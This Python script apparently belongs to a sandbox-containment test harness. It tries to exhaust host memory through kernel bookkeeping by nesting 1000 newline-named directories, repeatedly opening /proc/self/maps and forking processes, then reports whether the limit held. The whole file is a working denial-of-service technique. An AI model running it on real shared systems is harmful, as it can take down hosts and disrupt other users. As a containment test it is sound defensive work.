# tries: to have the kernel keep what it says of mappings, for each descriptor that reads it, of a file in a long path
# must: held or killed: at the limit
import mmap
import os
import time

from attempt import escaped, held, host, work

NAME, DEPTH = "\n" * 255, 1000  # of a newline the kernel makes four characters
TEXT = len(NAME) * DEPTH * 4

os.chdir(work)
for _ in range(DEPTH):
    os.mkdir(NAME)
    os.chdir(NAME)
file = os.open("file", os.O_RDWR | os.O_CREAT)
os.ftruncate(file, mmap.PAGESIZE)
mapping = mmap.mmap(file, mmap.PAGESIZE, prot=mmap.PROT_READ)


def read():
    """Reads as far as the path, in as many descriptors as there can be."""
    count = 0
    try:
        while True:
            maps = os.open("/proc/self/maps", os.O_RDONLY)
            while b"\\012\\012" not in (some := os.read(maps, 1 << 16)):
                if not some:
                    return count
            count += 1
    except OSError:
        return count


try:
    kept, processes = read() * TEXT, 1
    while kept and kept * processes < host.memory * 5 // 4:
        if os.fork() == 0:
            read()
            time.sleep(60)
            os._exit(0)
        processes += 1
    time.sleep(3)
    if kept:
        escaped("%d processes with %d bytes each" % (processes, kept))
    else:
        held("nothing of the path is told")
except OSError as error:
    held(error)
os._exit(0)
